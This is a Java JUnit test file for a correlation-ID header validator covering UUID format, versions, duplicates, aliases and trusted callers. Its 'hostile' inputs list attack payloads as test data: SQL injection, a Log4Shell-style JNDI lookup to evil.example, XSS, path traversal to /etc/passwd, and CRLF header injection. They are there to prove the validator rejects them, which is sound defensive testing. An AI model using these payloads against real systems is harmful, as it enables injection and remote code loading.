package dev.mainstay.core.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import dev.mainstay.core.context.CorrelationId;
import dev.mainstay.core.http.IngressPolicy.Decision;
import dev.mainstay.core.http.IngressPolicy.RejectReason;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class IngressPolicyTest {

    private static final String VALID = "0f8fad5b-d9cb-469f-a165-70867728950e";
    private static final String OTHER = "7c9e6679-7425-40de-944b-e07fc1f90ae7";

    private final IngressPolicy policy = IngressPolicy.ofDefaults();

    static Stream<String> valid() {
        return Stream.of(
                VALID,
                VALID.toUpperCase(Locale.ROOT),
                "0F8fad5b-D9cb-469F-A165-70867728950e",
                "00000000-0000-4000-8000-000000000000",
                "ffffffff-ffff-4fff-bfff-ffffffffffff",
                "00000000-0000-4000-9000-000000000000",
                "00000000-0000-4000-a000-000000000000");
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                refused("", RejectReason.BAD_FORMAT),
                refused(" ", RejectReason.BAD_FORMAT),
                refused("-", RejectReason.BAD_FORMAT),
                refused("null", RejectReason.BAD_FORMAT),
                refused("1", RejectReason.BAD_FORMAT),
                refused("0f8fad5bd9cb469fa16570867728950e", RejectReason.BAD_FORMAT),
                refused("0f8fad5b-d9cb-469f-a165-70867728950", RejectReason.BAD_FORMAT),
                refused("0f8fad5b-d9cb-469f-a165-70867728950g", RejectReason.BAD_FORMAT),
                refused("0f8fad5bd-9cb-469f-a165-70867728950e", RejectReason.BAD_FORMAT),
                refused("0f8fad5b_d9cb_469f_a165_70867728950e", RejectReason.BAD_FORMAT),
                refused("0f8fad5b-d9cb-469f-a165-7086772895\r\n", RejectReason.BAD_FORMAT),
                refused("0f8fad5b-d9cb-469f-a165-70867728950\u0000", RejectReason.BAD_FORMAT),
                refused("0f8fad5b\u2010d9cb\u2010469f\u2010a165\u201070867728950e", RejectReason.BAD_FORMAT),
                refused("0f8fad5b-d9cb-469f-a165-7086772895\u0661e", RejectReason.BAD_FORMAT),
                refused("\uff10f8fad5b-d9cb-469f-a165-70867728950e", RejectReason.BAD_FORMAT),
                refused("0f8f\u0430d5b-d9cb-469f-a165-70867728950e", RejectReason.BAD_FORMAT),
                refused("-----------------------------------4", RejectReason.BAD_FORMAT),
                refused("' or 1=1; drop table orders; -- ", RejectReason.BAD_FORMAT),
                refused("${jndi:ldap://evil.example/a}", RejectReason.BAD_FORMAT),
                refused("<script>alert(1)</script>", RejectReason.BAD_FORMAT),
                refused("../../../../etc/passwd", RejectReason.BAD_FORMAT),
                refused(VALID + "\r\nSet-Cookie: a=b", RejectReason.TOO_LONG),
                refused(VALID + "\n", RejectReason.TOO_LONG),
                refused(VALID + "\u0000", RejectReason.TOO_LONG),
                refused(" " + VALID, RejectReason.TOO_LONG),
                refused(VALID + " ", RejectReason.TOO_LONG),
                refused("\t" + VALID, RejectReason.TOO_LONG),
                refused("{" + VALID + "}", RejectReason.TOO_LONG),
                refused("\"" + VALID + "\"", RejectReason.TOO_LONG),
                refused("urn:uuid:" + VALID, RejectReason.TOO_LONG),
                refused(VALID + "," + OTHER, RejectReason.TOO_LONG),
                refused(VALID + ", " + VALID, RejectReason.TOO_LONG),
                refused("\u202e" + VALID, RejectReason.TOO_LONG),
                refused("a".repeat(10_240), RejectReason.TOO_LONG),
                refused("00000000-0000-0000-0000-000000000000", RejectReason.BAD_VERSION),
                refused("ffffffff-ffff-ffff-ffff-ffffffffffff", RejectReason.BAD_VERSION),
                refused("c232ab00-9414-11ec-b3c8-9f6bdeced846", RejectReason.BAD_VERSION),
                refused("5df41881-3aed-3515-88a7-2f4a814cf09e", RejectReason.BAD_VERSION),
                refused("2ed6657d-e927-568b-95e1-2665a8aea6a2", RejectReason.BAD_VERSION),
                refused("017f22e2-79b0-7cc3-98c4-dc0c0c07398f", RejectReason.BAD_VERSION),
                refused("0f8fad5b-d9cb-469f-7165-70867728950e", RejectReason.BAD_VERSION),
                refused("0f8fad5b-d9cb-469f-c165-70867728950e", RejectReason.BAD_VERSION));
    }

    private static Arguments refused(String text, RejectReason reason) {
        return Arguments.of(text, reason);
    }

    @ParameterizedTest
    @MethodSource("valid")
    void aValidIdIsUsedInItsCanonicalForm(String received) {
        for (Trust trust : Trust.values()) {
            Decision decision = policy.decide(List.of(received), trust);

            assertThat(decision.id().value()).isEqualTo(received.toLowerCase(Locale.ROOT));
            assertThat(decision.isAccepted()).isTrue();
            assertThat(decision.reason()).isNull();
        }
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void anythingElseIsReplacedAndNotKept(String received, RejectReason reason) {
        for (Trust trust : Trust.values()) {
            Decision decision = policy.decide(List.of(received), trust);

            assertThat(decision.reason()).isEqualTo(reason);
            assertThat(decision.isAccepted()).isFalse();
            assertThat(CorrelationId.parse(decision.id().value())).contains(decision.id());
            assertThat(decision.id().value()).isNotEqualToIgnoringCase(received);
            if (received.length() > 1) {
                assertThat(decision.toString()).doesNotContain(received);
            }
        }
    }

    @Test
    void everyRefusalMintsAnotherId() {
        Decision first = policy.decide(List.of("x"), Trust.TRUSTED);
        Decision second = policy.decide(List.of("x"), Trust.TRUSTED);

        assertThat(first.id()).isNotEqualTo(second.id());
    }

    @Test
    void noValueIsAbsent() {
        assertThat(policy.decide(List.of(), Trust.TRUSTED).reason()).isEqualTo(RejectReason.ABSENT);
    }

    @Test
    void ofTwoIdsNeitherIsUsed() {
        Decision decision = policy.decide(List.of(VALID, OTHER), Trust.TRUSTED);

        assertThat(decision.reason()).isEqualTo(RejectReason.DUPLICATE);
        assertThat(decision.id().value()).isNotIn(VALID, OTHER);
    }

    @Test
    void theSameIdTwiceIsNotUsedEither() {
        assertThat(policy.decide(List.of(VALID, VALID), Trust.TRUSTED).reason()).isEqualTo(RejectReason.DUPLICATE);
    }

    @Test
    void anAliasIsReadOnlyWhenConfiguredAndTheHeaderIsAbsent() {
        IngressPolicy aliased = policy.withAlias("X-Request-ID").withAlias("X-Trace-ID");

        assertThat(decide(policy, Map.of("X-Request-ID", List.of(VALID))).reason())
                .isEqualTo(RejectReason.ABSENT);
        assertThat(decide(aliased, Map.of("x-request-id", List.of(VALID))).id().value())
                .isEqualTo(VALID);
        assertThat(decide(aliased, Map.of("X-Trace-ID", List.of(OTHER))).id().value())
                .isEqualTo(OTHER);
        assertThat(decide(aliased, Map.of("X-Request-ID", List.of(VALID), "X-Trace-ID", List.of(OTHER)))
                        .id()
                        .value())
                .isEqualTo(VALID);
        assertThat(decide(aliased, Map.of("X-Correlation-ID", List.of(OTHER), "X-Request-ID", List.of(VALID)))
                        .id()
                        .value())
                .isEqualTo(OTHER);
        assertThat(decide(aliased, Map.of("X-Correlation-ID", List.of("bad"), "X-Request-ID", List.of(VALID)))
                        .reason())
                .isEqualTo(RejectReason.BAD_FORMAT);
        assertThat(decide(aliased, Map.of()).reason()).isEqualTo(RejectReason.ABSENT);
    }

    @Test
    void linesThatDifferInTheCaseOfTheNameAreDuplicates() {
        Map<String, List<String>> headers = new LinkedHashMap<>();
        headers.put("X-Correlation-ID", List.of(VALID));
        headers.put("x-correlation-id", List.of(OTHER));

        assertThat(decide(policy, headers).reason()).isEqualTo(RejectReason.DUPLICATE);
    }

    @ParameterizedTest
    @EnumSource(Trust.class)
    void untrustedCallersMayBeKeptFromChoosingTheId(Trust trust) {
        Decision decision = policy.withTrustedOnly().decide(List.of(VALID), trust);

        assertThat(decision.isAccepted()).isEqualTo(trust == Trust.TRUSTED);
        assertThat(decision.reason()).isEqualTo(trust == Trust.TRUSTED ? null : RejectReason.UNTRUSTED);
        assertThat(policy.withTrustedOnly().decide(List.of(), trust).reason()).isEqualTo(RejectReason.ABSENT);
    }

    @Test
    void policiesAreDerivedWithoutLosingWhatTheyHad() {
        assertThat(policy.withTrustedOnly().withAlias("X-Request-ID"))
                .isEqualTo(policy.withAlias("X-Request-ID").withTrustedOnly())
                .isEqualTo(new IngressPolicy("X-Correlation-ID", List.of("X-Request-ID"), true));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "X Id", "X-Id:", "X-Id\r\n", "X-\u00e4", "X/Id", "X[Id", "X{Id", "X@Id"})
    void whatIsNoHeaderNameIsRefused(String name) {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> new IngressPolicy(name, List.of(), false))
                .withMessageStartingWith("header must be a header name");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> policy.withAlias(name))
                .withMessageStartingWith("alias must be a header name");
    }

    private static Decision decide(IngressPolicy policy, Map<String, List<String>> headers) {
        return policy.decide(Carrier.ofMap(), headers, Trust.TRUSTED);
    }
}
